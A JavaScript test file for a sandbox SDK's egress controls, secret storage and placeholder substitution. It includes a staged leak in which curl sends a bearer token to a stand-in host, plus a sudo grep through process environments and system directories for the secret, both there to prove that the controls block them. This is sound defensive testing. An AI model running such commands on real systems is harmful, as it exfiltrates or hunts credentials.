// Egress through the stock SDK: network fields at create, updateNetwork,
// getInfo's network shape, Secret.*, Secret.fill placeholders, and the
// decision log. run.sh's daemon keeps its default ceiling, which is empty:
// every destination is refused by the proxy before any name is looked up, so
// these tests send nothing off this machine. (Traffic that does leave is
// tested in tests/integration/test_egress.py, inside its own namespaces.)
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { Sandbox, Secret, SecretNotFoundError, CommandExitError, ALL_TRAFFIC } from 'e2b'
import { createSandbox, env, uniqueTag } from './helpers.mjs'

const run = async (sbx, cmd) => {
  try {
    return await sbx.commands.run(cmd)
  } catch (e) {
    if (e instanceof CommandExitError) return e
    throw e
  }
}

test('allowOut at create: getInfo shows it, the proxy is set, the empty ceiling refuses', async (t) => {
  const sbx = await createSandbox(t, { allowInternetAccess: false, network: { allowOut: ['*.Example.com:443', '10.0.0.0/8'] } })
  const info = await Sandbox.getInfo(sbx.sandboxId)
  assert.equal(info.allowInternetAccess, false)
  assert.deepEqual(info.network.allowOut, ['*.example.com:443', '10.0.0.0/8'])
  assert.deepEqual(info.network.denyOut, [ALL_TRAFFIC])
  const envs = await run(sbx, 'env | grep -i _proxy= | sort')
  assert.match(envs.stdout, /^HTTPS_PROXY=http:\/\/127\.0\.0\.1:3128$/m)
  assert.match(envs.stdout, /^ALL_PROXY=socks5h:\/\/127\.0\.0\.1:3128$/m)
  assert.match(envs.stdout, /^no_proxy=localhost,127\.0\.0\.1,::1,0\.0\.0\.0$/m)
  const r = await run(sbx, 'curl -sS -m 10 https://api.example.com/')
  assert.notEqual(r.exitCode, 0)
  const h = await run(sbx, 'curl -sS -m 10 http://api.example.com:443/')
  assert.match(h.stdout, /denied/)
  assert.match(h.stdout, /outside the operator's ceiling/)
})

test('allowInternetAccess:false without allowOut: no proxy, no variables', async (t) => {
  const sbx = await createSandbox(t, { allowInternetAccess: false })
  assert.equal((await run(sbx, 'env | grep -ci _proxy=; true')).stdout.trim(), '0')
  const r = await run(sbx, 'curl -sS -m 5 --proxy http://127.0.0.1:3128 http://example.com/')
  assert.equal(r.exitCode, 7) // nothing listens
  const info = await Sandbox.getInfo(sbx.sandboxId)
  assert.deepEqual(info.network.allowOut, [])
  assert.deepEqual(info.network.denyOut, [ALL_TRAFFIC])
})

test('updateNetwork replaces the lists live; a bad rule throws and changes nothing', async (t) => {
  const sbx = await createSandbox(t, { allowInternetAccess: false, network: { allowOut: ['a.example.com'] } })
  await sbx.updateNetwork({ allowOut: ['b.example.com', '192.0.2.7'], denyOut: [ALL_TRAFFIC] })
  let info = await sbx.getInfo()
  assert.deepEqual(info.network.allowOut, ['b.example.com', '192.0.2.7'])
  await assert.rejects(sbx.updateNetwork({ allowOut: ['not a host'] }), (e) => /400/.test(String(e.message)) || e.name === 'InvalidArgumentError' || e.name === 'SandboxError')
  info = await sbx.getInfo()
  assert.deepEqual(info.network.allowOut, ['b.example.com', '192.0.2.7'])
  // turning it off closes the proxy; on again brings it back
  await sbx.updateNetwork({ allowInternetAccess: false })
  assert.equal((await run(sbx, 'curl -sS -m 5 --proxy http://127.0.0.1:3128 http://b.example.com/')).exitCode, 7)
  await sbx.updateNetwork({ allowOut: ['b.example.com'] })
  assert.match((await run(sbx, 'curl -sS -m 5 --proxy http://127.0.0.1:3128 http://b.example.com/')).stdout, /denied/)
})

test('a bad network spec at create is a 400 and creates nothing', async (t) => {
  const tag = uniqueTag()
  await assert.rejects(Sandbox.create({ metadata: { tag }, network: { allowOut: ['exa mple.com'] } }), (e) => /400/.test(String(e.message)))
  await assert.rejects(Sandbox.create({ metadata: { tag }, network: { egressProxy: { address: 'proxy.example.com:1080' } } }), (e) => /400/.test(String(e.message)))
  const left = await Sandbox.list({ query: { metadata: { tag } } }).nextItems()
  assert.deepEqual(left, [])
})

test('Secret.*: create, getInfo, list, exists, update, destroy; the value is never returned', async () => {
  const name = `tok-${randomBytes(4).toString('hex')}`
  const value = `v-${randomBytes(8).toString('hex')}`
  const made = await Secret.create(name, value, { metadata: { hosts: 'api.example.com', note: 'x' } })
  assert.match(made.secretId, /^sec_[a-z0-9]{20}$/)
  assert.equal(made.name, name)
  assert.equal(made.version, 1)
  assert.equal(made.metadata.note, 'x')
  assert.ok(!JSON.stringify(made).includes(value))
  const byId = await Secret.getInfo(made.secretId)
  assert.equal(byId.name, name)
  assert.equal((await Secret.getInfo(name.toUpperCase())).secretId, made.secretId)
  assert.equal(await Secret.exists(name), true)
  const pager = Secret.list({ limit: 100 })
  const all = []
  while (pager.hasNext) all.push(...(await pager.nextItems()))
  assert.ok(all.some((s) => s.name === name))
  assert.ok(!JSON.stringify(all).includes(value))
  const up = await Secret.update(name, value + '2')
  assert.equal(up.version, 2)
  assert.equal(await Secret.destroy(name), true)
  assert.equal(await Secret.destroy(name), false)
  assert.equal(await Secret.exists(name), false)
  await assert.rejects(Secret.getInfo(name), SecretNotFoundError)
})

test('Secret.fill in envs: the sandbox holds a placeholder, never the value; the log records the refusal', async (t) => {
  const name = `gh-${randomBytes(4).toString('hex')}`
  const value = `ghp_${randomBytes(12).toString('hex')}`
  await Secret.create(name, value, { metadata: { hosts: 'api.github.example' } })
  t.after(() => Secret.destroy(name).catch(() => {}))
  const sbx = await createSandbox(t, { envs: { GH_TOKEN: Secret.fill(name) } })
  const r = await run(sbx, 'echo "$GH_TOKEN"')
  assert.match(r.stdout.trim(), /^hsp_[0-9a-f]{40}$/)
  // also for a process's own envs
  const r2 = await sbx.commands.run('echo "$T"', { envs: { T: Secret.fill(name) } })
  assert.equal(r2.stdout.trim(), r.stdout.trim())
  // sent to a host the secret is not bound to: refused by the proxy
  const leak = await run(sbx, 'curl -sS -m 10 -H "Authorization: Bearer $GH_TOKEN" http://elsewhere.example/')
  assert.match(leak.stdout, /denied/) // the ceiling refuses it first; test_egress.py covers the placeholder refusal
  const dump = await run(sbx, `sudo grep -rasl -- '${value}' /proc/[0-9]*/environ /etc /run /tmp /home 2>/dev/null; echo end`)
  assert.equal(dump.stdout.trim(), 'end')
  const res = await fetch(`${env.apiUrl}/sandboxes/${sbx.sandboxId}/egress`, { headers: { 'X-API-Key': env.apiKey } })
  assert.equal(res.status, 200)
  const log = await res.json()
  const refused = log.find((e) => e.host === 'elsewhere.example')
  assert.ok(refused, JSON.stringify(log))
  assert.equal(refused.decision, 'deny')
  assert.ok(!JSON.stringify(log).includes(value))
  // an unknown secret is refused at create
  await assert.rejects(Sandbox.create({ envs: { X: Secret.fill(`nope-${randomBytes(3).toString('hex')}`) } }), (e) => /40[04]/.test(String(e.message)))
})
